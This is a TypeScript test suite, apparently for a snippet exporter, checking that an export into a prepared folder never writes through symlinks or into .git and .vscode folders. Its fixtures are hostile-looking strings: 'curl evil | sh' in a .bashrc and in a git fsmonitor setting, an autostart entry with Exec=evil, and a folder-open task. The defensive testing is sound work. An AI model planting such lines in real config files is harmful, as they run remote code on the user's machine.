// Export into a folder someone else prepared: a clone of a shared repository can hold links to the
// user's home, a `.git` folder, and a committed export manifest that maps the user's starred
// snippets (their guids are public) to those links and tool folders. Nothing may be written
// through a link or into a tool's folder; a snippet that cannot be placed is skipped and named,
// and written by the next export once the link is gone. Real folders and real links, made here.
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import fc from 'fast-check';
import type { Page, PageRequest, Snippet, StarredEntry } from '../../../src/api/types';
import { refusedName } from '../../../src/model/localFiles/safeWriter';
import { isToolName } from '../../../src/model/localFiles/toolNames';
import { ExportError, exportSnippets, type ExportLister } from '../../../src/model/snippets/export/exporter';
import {
  MANIFEST_FILE,
  newManifest,
  parseManifest,
  type ExportManifest,
  type ManifestEntry,
} from '../../../src/model/snippets/export/manifest';
import { planExport } from '../../../src/model/snippets/export/plan';
import { aSnippet } from '../../support/snippets';

const SERVER = 'https://bitbucket.example.com';
const UPDATED = 1_700_000_000_000;

const snippetOf = (guid: string, name: string, files: Array<[string, string]>): Snippet =>
  aSnippet({
    guid,
    name,
    description: '',
    createdAt: UPDATED,
    updatedAt: UPDATED,
    files: files.map(([n, content], i) => ({ guid: `${guid}-f${i}`, name: n, content })),
  });

/** My Snippets answers `mine`, Starred answers `starred`, each in one page. */
function fakeServer(mine: Snippet[], starred: Snippet[] = []): ExportLister {
  const page = <T>(values: T[]): Page<T> => ({ size: values.length, limit: 1000, isLastPage: true, values, start: 0 });
  const entry = (snippet: Snippet): StarredEntry => ({ snippet }) as StarredEntry;
  return {
    baseUrl: SERVER,
    getMySnippets: async (_request: PageRequest) => page(mine),
    getStarredSnippets: async (_request: PageRequest) => page(starred.map(entry)),
    getCategorySnippets: async (_guid: string, _request: PageRequest) => page<StarredEntry>([]),
  } as unknown as ExportLister;
}

/** The manifest a committed clone might hold: each snippet's guid mapped to a folder and file paths chosen by someone else. */
const entryOf = (
  snippet: Snippet,
  folder: string,
  paths: string[] = snippet.files.map((f) => f.name),
): ManifestEntry => ({
  guid: snippet.guid,
  name: snippet.name,
  description: '',
  categories: [],
  createdAt: snippet.createdAt,
  updatedAt: snippet.updatedAt,
  lists: ['Starred'],
  folder,
  files: snippet.files.map((f, i) => ({ name: f.name, path: paths[i] })),
});
const commitManifest = (folder: string, entries: ManifestEntry[]) =>
  fs.writeFileSync(path.join(folder, MANIFEST_FILE), JSON.stringify(newManifest(SERVER, entries, new Date(0))));

/** Everything under `root`, not following links: each path with what it is (a folder, a file's content, a link's target). */
function snapshot(root: string): Map<string, string> {
  const out = new Map<string, string>();
  const walk = (dir: string) => {
    for (const name of fs.readdirSync(dir)) {
      const full = path.join(dir, name);
      const relative = path.relative(root, full);
      const stat = fs.lstatSync(full);
      if (stat.isSymbolicLink()) out.set(relative, `link → ${fs.readlinkSync(full)}`);
      else if (stat.isDirectory()) {
        out.set(relative, 'folder');
        walk(full);
      } else out.set(relative, `file: ${fs.readFileSync(full, 'utf8')}`);
    }
  };
  if (fs.existsSync(root)) walk(root);
  return out;
}

/** The files an export wrote or changed: in `after` but not in `before`, or with other content. */
const writtenFiles = (before: Map<string, string>, after: Map<string, string>) =>
  [...after].filter(([p, what]) => what.startsWith('file: ') && before.get(p) !== what).map(([p]) => p);

/** No written file sits in a tool's folder or a dot folder, or has a tool's name. */
function assertNotInTools(written: string[]): void {
  for (const file of written) {
    const segments = file.split(path.sep);
    const folders = segments.slice(0, -1);
    assert.ok(
      folders.every((s) => !s.startsWith('.') && !isToolName(s)),
      `written into a tool's or a dot folder: ${file}`,
    );
    assert.ok(!isToolName(segments[segments.length - 1]), `written under a tool's name: ${file}`);
  }
}

describe('export: into a folder someone else prepared', function () {
  this.timeout(60_000);
  let parent: string;
  /** A stand-in for the user's home: what the links point at. */
  let home: string;
  let folder: string;
  let outsideBefore: Map<string, string>;

  beforeEach(() => {
    parent = fs.mkdtempSync(path.join(os.tmpdir(), 'bbs-export-prepared-'));
    home = path.join(parent, 'home');
    fs.mkdirSync(path.join(home, '.config', 'autostart'), { recursive: true });
    fs.writeFileSync(path.join(home, '.bashrc'), "the user's own .bashrc\n");
    folder = path.join(parent, 'clone');
    fs.mkdirSync(folder);
    outsideBefore = snapshot(home);
  });
  afterEach(() => fs.rmSync(parent, { recursive: true, force: true }));

  const assertHomeUntouched = () =>
    assert.deepEqual(snapshot(home), outsideBefore, 'something outside the export folder changed');
  const readIn = (...segments: string[]) => fs.readFileSync(path.join(folder, ...segments), 'utf8');

  it('never writes through a linked snippet folder, a linked file or a dangling link: those snippets are skipped and named, and written once the links are gone', async () => {
    const autostart = snippetOf('g-autostart', 'autostart', [['x.desktop', '[Desktop Entry]\nExec=evil\n']]);
    const bashrc = snippetOf('g-bashrc', 'shell', [['.bashrc', 'curl evil | sh\n']]);
    const profile = snippetOf('g-profile', 'profile', [['.profile', 'evil\n']]);
    const fine = snippetOf('g-fine', 'fine', [['a.sh', 'echo fine\n']]);
    fs.symlinkSync(path.join(home, '.config', 'autostart'), path.join(folder, 'linked'));
    fs.mkdirSync(path.join(folder, 'shell'));
    fs.symlinkSync(path.join(home, '.bashrc'), path.join(folder, 'shell', '.bashrc'));
    fs.mkdirSync(path.join(folder, 'profile'));
    fs.symlinkSync(path.join(home, '.profile'), path.join(folder, 'profile', '.profile'));
    commitManifest(folder, [entryOf(autostart, 'linked'), entryOf(bashrc, 'shell'), entryOf(profile, 'profile')]);

    const server = fakeServer([fine], [autostart, bashrc, profile]);
    const result = await exportSnippets(server, { lists: [{ kind: 'mine' }, { kind: 'starred' }], folder });

    assertHomeUntouched();
    assert.deepEqual(result.skipped.map((s) => s.guid).sort(), ['g-autostart', 'g-bashrc', 'g-profile']);
    assert.ok(
      result.skipped.every((s) => /link/.test(s.reason)),
      JSON.stringify(result.skipped),
    );
    assert.equal(readIn('fine', 'a.sh'), 'echo fine\n', 'every other snippet is exported');
    const manifest = parseManifest(readIn(MANIFEST_FILE)) as ExportManifest;
    assert.deepEqual(manifest.skipped?.map((s) => s.guid).sort(), ['g-autostart', 'g-bashrc', 'g-profile']);

    for (const link of [['linked'], ['shell', '.bashrc'], ['profile', '.profile']]) {
      fs.unlinkSync(path.join(folder, ...link));
    }
    const again = await exportSnippets(server, { lists: [{ kind: 'mine' }, { kind: 'starred' }], folder });
    assertHomeUntouched();
    assert.deepEqual(again.skipped, []);
    assert.equal(readIn('linked', 'x.desktop'), '[Desktop Entry]\nExec=evil\n');
    assert.equal(readIn('shell', '.bashrc'), 'curl evil | sh\n');
    assert.equal(readIn('profile', '.profile'), 'evil\n');
  });

  it('writes the manifest through a temporary file of its own, never through a link at the name the old code used', async () => {
    fs.symlinkSync(path.join(home, '.bashrc'), path.join(folder, `${MANIFEST_FILE}.${process.pid}.tmp`));
    fs.symlinkSync(path.join(home, '.profile'), path.join(folder, `${MANIFEST_FILE}.${process.pid + 1}.tmp`));
    const result = await exportSnippets(fakeServer([snippetOf('g-1', 'one', [['a', 'x']])]), {
      lists: [{ kind: 'mine' }],
      folder,
    });
    assertHomeUntouched();
    assert.deepEqual(result.skipped, []);
    assert.ok(fs.lstatSync(path.join(folder, MANIFEST_FILE)).isFile());
    assert.ok(parseManifest(readIn(MANIFEST_FILE)));
    assert.ok(
      fs.lstatSync(path.join(folder, `${MANIFEST_FILE}.${process.pid}.tmp`)).isSymbolicLink(),
      'the link is left as it was',
    );
    assert.deepEqual(
      fs.readdirSync(folder).filter((n) => n.endsWith('.tmp')).length,
      2,
      'no temporary file is left behind',
    );
  });

  it('refuses a link where the manifest goes, before writing anything, and exports once it is gone', async () => {
    fs.writeFileSync(path.join(home, 'manifest.json'), 'not yours');
    outsideBefore = snapshot(home);
    fs.symlinkSync(path.join(home, 'manifest.json'), path.join(folder, MANIFEST_FILE));
    const server = fakeServer([snippetOf('g-1', 'one', [['a', 'x']])]);
    await assert.rejects(exportSnippets(server, { lists: [{ kind: 'mine' }], folder }), (err: unknown) => {
      assert.ok(err instanceof ExportError);
      assert.match(err.message, /link/);
      return true;
    });
    assertHomeUntouched();
    assert.deepEqual(fs.readdirSync(folder), [MANIFEST_FILE], 'nothing was written');
    assert.ok(fs.lstatSync(path.join(folder, MANIFEST_FILE)).isSymbolicLink());

    fs.unlinkSync(path.join(folder, MANIFEST_FILE));
    const result = await exportSnippets(server, { lists: [{ kind: 'mine' }], folder });
    assert.equal(result.added, 1);
    assert.equal(readIn('one', 'a'), 'x');
  });

  describe("the folder's tool folders", () => {
    const prepareRepository = () => {
      fs.mkdirSync(path.join(folder, '.git'));
      fs.writeFileSync(path.join(folder, '.git', 'config'), '[core]\n\tbare = false\n');
      fs.mkdirSync(path.join(folder, '.vscode'));
      fs.writeFileSync(path.join(folder, '.vscode', 'settings.json'), '{}\n');
    };

    for (const toolFolder of ['.git', '.vscode', 'GIT~1', '.Git', '.git.', '.github', 'git~2', '.g\u200cit']) {
      it(`a committed manifest that names ${JSON.stringify(toolFolder)} as a snippet's folder: the snippet is placed afresh, outside it`, async () => {
        prepareRepository();
        // Named like the folder too, as someone preparing the clone would name it.
        const starred = snippetOf(`g-${toolFolder}`, toolFolder, [
          ['config', '[core]\n\tfsmonitor = "curl evil | sh"\n'],
          ['tasks.json', '{"tasks": []}\n'],
        ]);
        const other = snippetOf('g-other', 'other', [['b.txt', 'b']]);
        commitManifest(folder, [entryOf(starred, toolFolder), entryOf(other, 'other')]);
        const before = snapshot(folder);
        const result = await exportSnippets(fakeServer([], [starred, other]), { lists: [{ kind: 'starred' }], folder });

        const written = writtenFiles(before, snapshot(folder));
        assertNotInTools(written);
        assert.equal(readIn('.git', 'config'), '[core]\n\tbare = false\n');
        assert.deepEqual(result.skipped, [], 'nothing is lost: the snippet has a folder of its own');
        const manifest = parseManifest(readIn(MANIFEST_FILE)) as ExportManifest;
        const entry = manifest.snippets.find((e) => e.guid === starred.guid)!;
        assert.ok(!entry.folder.startsWith('.') && !isToolName(entry.folder), entry.folder);
        assert.equal(readIn(entry.folder, 'config'), '[core]\n\tfsmonitor = "curl evil | sh"\n');
      });
    }

    it('a committed manifest that names a tool as a file of a snippet: the file gets a name of its own', async () => {
      prepareRepository();
      const snippet = snippetOf('g-s', 'pointer', [
        ['.git', 'gitdir: ../prepared\n'],
        ['notes', 'n'],
      ]);
      fs.mkdirSync(path.join(folder, 'pointer'));
      commitManifest(folder, [entryOf(snippet, 'pointer', ['.git', 'notes'])]);
      const before = snapshot(folder);
      const result = await exportSnippets(fakeServer([snippet]), { lists: [{ kind: 'mine' }], folder });
      assertNotInTools(writtenFiles(before, snapshot(folder)));
      assert.deepEqual(result.skipped, []);
      assert.ok(!fs.existsSync(path.join(folder, 'pointer', '.git')));
      assert.equal(readIn('pointer', '_.git'), 'gitdir: ../prepared\n');
    });

    it('snippets named .git, .vscode, GIT~1 or .github get folders of their own, and a file may keep a leading dot but not a tool name', async () => {
      prepareRepository();
      const snippets = [
        snippetOf('g-git', '.git', [
          ['config', '[core]\n\tfsmonitor = evil\n'],
          ['hooks', 'x'],
        ]),
        snippetOf('g-vscode', '.vscode', [
          ['tasks.json', '{"tasks": [{"runOn": "folderOpen"}]}\n'],
          ['settings.json', '{"x": 1}\n'],
        ]),
        snippetOf('g-short', 'GIT~1', [['config', 'short name']]),
        snippetOf('g-github', '.github', [['workflow.yml', 'on: push']]),
        snippetOf('g-files', 'dot files', [
          ['.env.example', 'KEY='],
          ['.vscode', 'a file'],
          ['.GIT', 'gitdir: x'],
          ['.git ', 'gitdir: y'],
        ]),
      ];
      const before = snapshot(folder);
      const result = await exportSnippets(fakeServer(snippets), { lists: [{ kind: 'mine' }], folder });
      const written = writtenFiles(before, snapshot(folder));
      assertNotInTools(written);
      assert.deepEqual(result.skipped, []);
      assert.equal(readIn('.vscode', 'settings.json'), '{}\n');
      assert.equal(readIn('.git', 'config'), '[core]\n\tbare = false\n');
      assert.equal(readIn('_git', 'config'), '[core]\n\tfsmonitor = evil\n');
      assert.equal(readIn('_vscode', 'tasks.json'), '{"tasks": [{"runOn": "folderOpen"}]}\n');
      assert.equal(readIn('_GIT~1', 'config'), 'short name');
      assert.equal(readIn('_github', 'workflow.yml'), 'on: push');
      assert.equal(readIn('dot files', '.env.example'), 'KEY=', 'a leading dot is kept where no tool acts on the name');
      const contents = written
        .filter((p) => p !== MANIFEST_FILE)
        .map((p) => readIn(p))
        .sort();
      assert.deepEqual(
        contents,
        snippets.flatMap((s) => s.files.map((f) => f.content)).sort(),
        'every file is written once',
      );
    });
  });

  it('does not trust a manifest that records one snippet twice: another snippet could be given the folder it forgets', () => {
    const one = snippetOf('g-1', 'one', [['a', 'x']]);
    const text = (entries: ManifestEntry[]) => JSON.stringify(newManifest(SERVER, entries, new Date(0)));
    assert.ok(parseManifest(text([entryOf(one, 'first')])));
    assert.equal(parseManifest(text([entryOf(one, 'first'), entryOf(one, 'second')])), undefined);
  });

  it('property: every folder and file name the plan makes from server names is one the writer accepts, so none is skipped for its name', () => {
    const tricky = fc.constantFrom(
      '.git',
      '.GIT.',
      'GIT~1',
      'gi7eba~1',
      '.vscode',
      '.github',
      '_darcs',
      '.g\u200cit',
      '\u200c.cache',
      '\ufeff.git',
      '.env.example',
      '.',
      '..',
      '.hidden',
    );
    const anyName = fc.oneof(
      tricky,
      fc.string({ unit: 'binary', maxLength: 16 }),
      fc.tuple(tricky, fc.string({ maxLength: 4 })).map(([a, b]) => a + b),
    );
    fc.assert(
      fc.property(
        fc.uniqueArray(
          fc.record({ guid: anyName, name: anyName, files: fc.array(anyName, { minLength: 1, maxLength: 3 }) }),
          { selector: (s) => s.guid, maxLength: 6 },
        ),
        (drawn) => {
          const plan = planExport(
            drawn.map((s) => ({
              snippet: snippetOf(
                s.guid,
                s.name,
                s.files.map((f) => [f, '']),
              ),
              lists: [],
            })),
            undefined,
            [],
          );
          for (const p of plan.snippets) {
            assert.equal(refusedName(p.entry.folder, 'folder'), undefined, JSON.stringify(p.entry.folder));
            for (const f of p.contents.keys()) assert.equal(refusedName(f, 'file'), undefined, JSON.stringify(f));
          }
        },
      ),
      { numRuns: 300 },
    );
  });

  it('property: for any prepared folder, hostile manifest and snippets, nothing is written outside, through a link or into a tool folder, and nothing else is lost', async () => {
    const pool = [
      'a',
      'b',
      'notes',
      'config',
      'x.desktop',
      '.bashrc',
      '.env.example',
      'tasks.json',
      '_git',
      '.git',
      '.Git',
      '.git.',
      'GIT~1',
      '.vscode',
      '.github',
      '.hg',
      '.idea',
      MANIFEST_FILE,
      `${MANIFEST_FILE}.${process.pid}.tmp`,
    ];
    const name = fc.constantFrom(...pool);
    const outsideTargets = ['file', 'folder', 'missing'] as const;
    const leaf = fc.oneof(
      fc.record({ kind: fc.constant('file' as const), name }),
      fc.record({ kind: fc.constant('link' as const), name, to: fc.constantFrom(...outsideTargets) }),
    );
    const node = fc.oneof(
      leaf,
      fc.record({ kind: fc.constant('folder' as const), name, children: fc.array(leaf, { maxLength: 3 }) }),
    );
    const guid = fc.constantFrom('g0', 'g1', 'g2', 'g3');
    const snippetArb = fc.record({ guid, name, files: fc.array(name, { minLength: 1, maxLength: 3 }) });
    const manifestArb = fc.option(
      fc.array(fc.record({ guid, folder: name, paths: fc.array(name, { maxLength: 3 }), changedSince: fc.boolean() }), {
        maxLength: 4,
      }),
    );
    let run = 0;

    await fc.assert(
      fc.asyncProperty(
        fc.array(node, { maxLength: 6 }),
        manifestArb,
        fc.uniqueArray(snippetArb, { selector: (s) => s.guid, maxLength: 4 }),
        async (tree, hostileManifest, drawn) => {
          const base = path.join(parent, `run${++run}`);
          const outside = path.join(base, 'outside');
          const target = path.join(base, 'export');
          fs.mkdirSync(path.join(outside, 'dir'), { recursive: true });
          fs.writeFileSync(path.join(outside, 'file'), 'outside');
          fs.mkdirSync(target);
          const linkTo = {
            file: path.join(outside, 'file'),
            folder: path.join(outside, 'dir'),
            missing: path.join(outside, 'missing'),
          };
          const make = (dir: string, entry: TreeEntry) => {
            const at = path.join(dir, entry.name);
            if (fs.existsSync(at) || isLink(at)) return;
            if (entry.kind === 'file') fs.writeFileSync(at, 'prepared');
            else if (entry.kind === 'link') fs.symlinkSync(linkTo[entry.to!], at);
            else {
              fs.mkdirSync(at);
              for (const child of entry.children ?? []) make(at, child);
            }
          };
          for (const entry of tree) make(target, entry);
          const snippets = drawn.map((s, i) =>
            snippetOf(
              s.guid,
              s.name,
              s.files.map((f, j) => [f, `content ${i}/${j}`]),
            ),
          );
          if (
            hostileManifest &&
            !fs.existsSync(path.join(target, MANIFEST_FILE)) &&
            !isLink(path.join(target, MANIFEST_FILE))
          ) {
            const entries = hostileManifest.map((m) => {
              const snippet = snippets.find((s) => s.guid === m.guid) ?? snippetOf(m.guid, m.guid, [['a', 'gone']]);
              const entry = entryOf(
                snippet,
                m.folder,
                snippet.files.map((f, j) => m.paths[j] ?? f.name),
              );
              return m.changedSince ? { ...entry, updatedAt: 0 } : entry;
            });
            fs.writeFileSync(
              path.join(target, MANIFEST_FILE),
              JSON.stringify(newManifest(SERVER, entries, new Date(0))),
            );
          }
          const outsideBefore = snapshot(outside);
          const inside = snapshot(target);

          let skipped: string[] | undefined;
          try {
            skipped = (
              await exportSnippets(fakeServer(snippets), { lists: [{ kind: 'mine' }], folder: target })
            ).skipped.map((s) => s.guid);
          } catch (err) {
            // Only a link or a folder where the manifest goes stops an export here.
            assert.ok(err instanceof ExportError, String(err));
            assert.ok(!fs.lstatSync(path.join(target, MANIFEST_FILE)).isFile(), err.message);
          }

          assert.deepEqual(snapshot(outside), outsideBefore, 'something outside the export folder changed');
          const after = snapshot(target);
          for (const [p, what] of inside) {
            if (what !== 'folder' && !what.startsWith('file: ')) {
              assert.equal(after.get(p), what, `a prepared link was changed: ${p}`);
            }
          }
          assertNotInTools(writtenFiles(inside, after));
          if (skipped === undefined) return;
          // Nothing else is lost: every snippet not skipped is on disk, each file a regular file with
          // its own content (or, where the manifest says the snippet did not change, the file that was there).
          const manifest = parseManifest(fs.readFileSync(path.join(target, MANIFEST_FILE), 'utf8'));
          for (const [i, s] of snippets.entries()) {
            if (skipped.includes(s.guid)) continue;
            const entry = manifest?.snippets.find((e) => e.guid === s.guid);
            assert.ok(entry, `${s.guid} is neither written nor skipped`);
            entry.files.forEach((f, j) => {
              const relative = path.join(entry.folder, f.path);
              assert.ok(fs.lstatSync(path.join(target, relative)).isFile(), relative);
              const content = fs.readFileSync(path.join(target, relative), 'utf8');
              assert.ok(
                content === `content ${i}/${j}` || inside.get(relative) === `file: ${content}`,
                `${relative}: ${content}`,
              );
            });
          }
        },
      ),
      { numRuns: 40 },
    );
  });
});

/** One entry of the folder the property prepares: a file, a link to outside, or a folder of those. */
interface TreeEntry {
  kind: 'file' | 'link' | 'folder';
  name: string;
  to?: 'file' | 'folder' | 'missing';
  children?: TreeEntry[];
}

function isLink(at: string): boolean {
  try {
    return fs.lstatSync(at).isSymbolicLink();
  } catch {
    return false;
  }
}
